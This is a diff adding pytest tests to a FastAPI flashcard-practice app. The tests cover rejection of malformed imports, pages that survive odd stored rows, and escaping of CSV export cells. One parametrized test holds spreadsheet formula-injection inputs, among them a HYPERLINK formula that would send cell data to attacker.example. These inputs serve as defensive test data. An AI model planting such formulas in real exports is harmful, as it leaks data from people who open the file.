@@ -13,7 +13,7 @@ from sqlalchemy import delete
 
 from app.practice.models import Attempt, ReviewLog, ReviewState, UserSettings
 from app.storage.base import utcnow
-from tests.factories import OWNER_CARD
+from tests.factories import OWNER_CARD, make_attempt
 from tests.practice.scheduling_helpers import HTMX, counts, post_attempt, review, write_session
 
 CACHE = "tf-data-cache-shuffle-order"
@@ -154,6 +154,17 @@ def _valid_doc(app: FastAPI, client: TestClient) -> dict[str, Any]:
         lambda d: d["review_states"][0].update(state="forgotten"),
         lambda d: d["review_states"].append(dict(d["review_states"][0])),
         lambda d: d["settings"].update(desired_retention=1.2),
+        # Rows a submitted answer could never be, which used to break pages once stored.
+        lambda d: d["attempts"][0].update(kind="follow-up"),  # a follow-up without its question
+        lambda d: d["attempts"][2].update(score=None),  # a quiz without a score
+        lambda d: d["attempts"][2].update(choices=None),  # a quiz without choices
+        lambda d: d["attempts"][0].update(text="   "),
+        lambda d: d["attempts"][0].update(text="half a pair \ud800"),
+        # Values that used to reach the database and answer 500.
+        lambda d: d["review_states"][0].update(reps=2**64),
+        lambda d: d["review_logs"][0].update(review_duration_ms=2**64),
+        lambda d: d["attempts"][0].update(created_at="0001-01-01T00:00:00+23:59"),
+        lambda d: d["attempts"][0].update(points=[2**40]),
     ],
 )
 def test_a_malformed_import_gets_422_and_stores_nothing(
@@ -161,11 +172,34 @@ def test_a_malformed_import_gets_422_and_stores_nothing(
 ) -> None:
     doc = _valid_doc(app, client)
     breakage(doc)
-    response = client.post("/api/import", json=doc)
+    # json.dumps escapes what httpx could not encode (half a surrogate pair).
+    body = json.dumps(doc)
+    response = client.post("/api/import", content=body, headers={"content-type": "application/json"})
     assert response.status_code == 422, response.text
     assert isinstance(response.json()["detail"], list)
     assert counts(app) == {"attempts": 0, "review_logs": 0, "review_states": 0}
     assert client.get("/api/settings").json()["target_tier"] == "middle"
+
+
+def test_non_finite_numbers_in_an_import_get_422(app: FastAPI, client: TestClient) -> None:
+    doc = _valid_doc(app, client)
+    body = json.dumps(doc).replace(
+        '"seconds": ' + json.dumps(doc["attempts"][0]["seconds"]), '"seconds": NaN', 1
+    )
+    assert "NaN" in body
+    response = client.post("/api/import", content=body, headers={"content-type": "application/json"})
+    assert response.status_code == 422
+    assert counts(app)["attempts"] == 0
+
+
+def test_pages_survive_a_stored_row_no_form_could_make(app: FastAPI, client: TestClient) -> None:
+    """A row from an older version or a hand-edited database still shows; nothing answers 500."""
+    with write_session(app) as session:
+        session.add(make_attempt(kind="follow-up", follow_up=None, text="which one?"))
+        session.add(make_attempt(kind="quiz", text=None, score=None, choices=None, rating=None))
+        session.commit()
+    for url in ("/progress", f"/cards/{OWNER_CARD}/history", "/api/attempts", "/api/progress"):
+        assert client.get(url).status_code == 200, url
 
 
 @pytest.mark.parametrize("body", [b"", b"{not json", b"[]", b"\xff\xfe", b'"a string"'])
@@ -213,3 +247,12 @@ def test_csv_exports(app: FastAPI, client: TestClient) -> None:
     reviews = read_csv(client, "reviews")
     assert [r["rating_name"] for r in reviews].count("good") >= 1 and len(reviews) == 4
     assert client.get("/api/export.csv?table=passwords").status_code == 422
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://attacker.example/?"&A1, "click")', "+1+2", "@SUM(A1)", "-2+3"]
+)
+def test_csv_cells_never_start_a_formula(client: TestClient, text: str) -> None:
+    post_attempt(client, text=text)
+    cell = read_csv(client)[0]["text"]
+    assert cell == "'" + text
